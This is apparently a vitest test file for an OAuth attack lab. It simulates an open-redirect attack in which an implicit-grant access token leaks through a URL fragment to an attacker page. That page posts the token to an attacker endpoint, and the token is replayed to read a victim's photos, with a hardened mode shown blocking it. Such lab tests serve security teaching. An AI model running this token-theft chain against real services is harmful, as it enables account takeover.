import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createActor, waitFor, type AnyActorRef } from 'xstate';
import { readAttackerLog } from '@/lib/attack-lab/attacker-log';
import { labCallbackRedirect } from '@/lib/lab-client/callback-redirect';
import { browser, signInAndDecide } from '@/lib/oauth-server/test-fixtures/browser';
import { setServerStore } from '@/lib/realms/registry';
import { createLab, LAB_ORIGIN } from '@/lib/realms/test-lab';
import { inProcessFetch } from '@/lib/server-router';
import { MemoryStore } from '@/lib/store/memory-store';
import { openRedirectMachine, type OpenRedirectContext } from './open-redirect.machine';
import { openRedirectWeaknesses, type OpenRedirectVariant } from './open-redirect.mallory';

const settle = (actor: AnyActorRef) => waitFor(actor, (s) => !s.hasTag('busy'), { timeout: 15_000 });
const absolute = (url: string | URL | Request, init?: RequestInit) =>
  inProcessFetch(typeof url === 'string' && url.startsWith('/') ? `${LAB_ORIGIN}${url}` : url, init);

/**
 * The real machine against real lab realms, in-process. Alice's browser is the test's minimal browser;
 * what Chromium does by itself is done here by hand, as the e2e spec shows it happening: the callback
 * page's redirector (lib/lab-client, which the page calls), the fragment kept across that redirect
 * (RFC 9110 §10.2.2), and Mallory's page posting its location.hash to her site.
 */
async function play(mode: 'vulnerable' | 'hardened', variant: OpenRedirectVariant) {
  const lab = await createLab(mode === 'vulnerable' ? openRedirectWeaknesses(variant) : []);
  const realm = { id: lab.id, issuer: lab.issuer, resource: lab.resource, weaknesses: lab.weaknesses };
  const actor = createActor(openRedirectMachine, { input: { origin: LAB_ORIGIN, realm, mode, variant } }).start();
  await settle(actor);
  actor.send({ type: 'user.next' }); // craft
  await settle(actor);
  actor.send({ type: 'user.next' }); // aliceOpensLink
  expect(actor.getSnapshot().value).toBe('aliceOpensLink');
  actor.send({ type: 'browser.navigated' });
  const b = browser();
  const answer = await signInAndDecide(b, lab.id, (actor.getSnapshot().context as OpenRedirectContext).authUrl!);
  const location = answer.headers.get('location');
  let landed: string | undefined;
  if (location) {
    const callback = new URL(location, LAB_ORIGIN);
    const target = await labCallbackRedirect(callback.searchParams, LAB_ORIGIN);
    if (target) {
      expect(target).not.toContain('#');
      const carried = new URL(target);
      carried.hash = callback.hash; // RFC 9110 §10.2.2: the Location has no fragment, so the browser keeps its own
      landed = carried.href;
      expect((await b.go(target)).status).toBe(200);
      // Her page's script: POST its location.hash to her site (lib/attacker-site/handler.ts FRAGMENT_SCRIPT).
      if (carried.hash.length > 1)
        await absolute(`/attacker/${lab.id}/fragment`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ fragment: carried.hash.slice(1) }),
        });
    }
  }
  for (let i = 0; i < 10 && actor.getSnapshot().status !== 'done'; i++) {
    actor.send({ type: 'user.next' });
    await settle(actor);
  }
  const snap = actor.getSnapshot();
  return {
    context: snap.context as OpenRedirectContext,
    final: String(snap.value),
    answer,
    location,
    landed,
    log: await readAttackerLog(lab, absolute),
  };
}

describe('open redirect + lax redirect check against real lab realms', () => {
  beforeEach(() => {
    setServerStore(new MemoryStore());
    vi.stubGlobal('fetch', absolute);
  });
  afterEach(() => vi.unstubAllGlobals());

  it.each(['extra-query', 'prefix'] as const)(
    '%s: the token rides the fragment through the client’s redirector to Mallory, who reads Alice’s photos; hardened: an error page, her site stays empty',
    async (variant) => {
      const v = await play('vulnerable', variant);
      expect(v.answer.status).toBe(303);
      const callback = new URL(v.location!, LAB_ORIGIN);
      expect(callback.pathname).toBe('/flows/callback');
      expect(callback.hash).toMatch(/access_token=/);
      expect(new URL(v.landed!).pathname).toMatch(/^\/attacker\/[\w-]+\/or$/);
      expect(v.log.some((r) => r.kind === 'fragment' && r.fields.access_token === v.context.stolen)).toBe(true);
      expect(v.context.exchanges.find((e) => e.step === 'replay')).toMatchObject({ from: 'attacker', to: 'rs', response: { status: 200 } });
      expect(v.final).toBe('outcome');
      expect(v.context.outcome).toMatchObject({ succeeded: true });
      expect(v.context.outcome?.what).toContain('Alice’s photos');

      const h = await play('hardened', variant);
      expect(h.answer.status).toBe(400);
      expect(h.location).toBeNull();
      expect(h.log).toEqual([]);
      expect(h.context.stolen).toBeUndefined();
      expect(h.context.exchanges.some((e) => e.to === 'rs')).toBe(false);
      expect(h.context.outcome).toMatchObject({ succeeded: false });
      expect(h.context.outcome?.what).toMatch(/error page \(HTTP 400, “invalid_request: The redirect_uri is not registered/);
    },
  );

  it('the lax AS alone is not enough: without the client’s redirector the token stays at the real callback', async () => {
    const lab = await createLab(['as-implicit-grant-allowed', 'as-redirect-uri-extra-query']);
    const realm = { id: lab.id, issuer: lab.issuer, resource: lab.resource, weaknesses: lab.weaknesses };
    const actor = createActor(openRedirectMachine, { input: { origin: LAB_ORIGIN, realm, mode: 'vulnerable' } }).start();
    await settle(actor);
    actor.send({ type: 'user.next' });
    await settle(actor);
    const answer = await signInAndDecide(browser(), lab.id, (actor.getSnapshot().context as OpenRedirectContext).authUrl!);
    const callback = new URL(answer.headers.get('location')!, LAB_ORIGIN);
    expect(callback.hash).toMatch(/access_token=/);
    expect(await labCallbackRedirect(callback.searchParams, LAB_ORIGIN)).toBeUndefined();
  });
});
